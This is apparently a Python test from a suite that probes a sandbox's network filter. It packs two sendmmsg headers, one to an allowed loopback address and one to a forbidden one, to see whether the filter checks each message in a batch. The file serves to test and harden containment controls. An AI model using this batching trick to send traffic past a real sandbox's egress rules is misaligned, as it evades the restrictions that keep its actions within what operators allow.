"""Hide a forbidden destination among allowed ones in one sendmmsg."""

import ctypes
import socket
import struct

from attack import FACTS, call, main
from race import address_of, shared_memory

WITNESS = "datagram"
PROMISE = "each message of sendmmsg is judged by itself"
CONTROL = "the forbidden server receives one"
ADVICE = "report it: every header of sendmmsg is decoded"


def attempt() -> bool:
    memory = shared_memory()
    base = address_of(memory)
    for at, (last, port) in enumerate(((1, FACTS["raced_port"]), (2, FACTS["raced_port"]))):
        memory[at * 16 : at * 16 + 16] = struct.pack("=H", socket.AF_INET) + struct.pack(
            "!H4B8x", port, 127, 0, 0, last
        )
    memory[64:69] = b"raced"
    memory[80:96] = struct.pack("=QQ", base + 64, 5)
    for at in range(2):
        header = struct.pack("=QI4xQQQQi4xI4x", base + at * 16, 16, base + 80, 1, 0, 0, 0, 0)
        memory[128 + at * 64 : 192 + at * 64] = header
    client = socket.socket(type=socket.SOCK_DGRAM)
    return call("sendmmsg", client.fileno(), ctypes.c_void_p(base + 128), 2, 0) == 2


main(attempt)
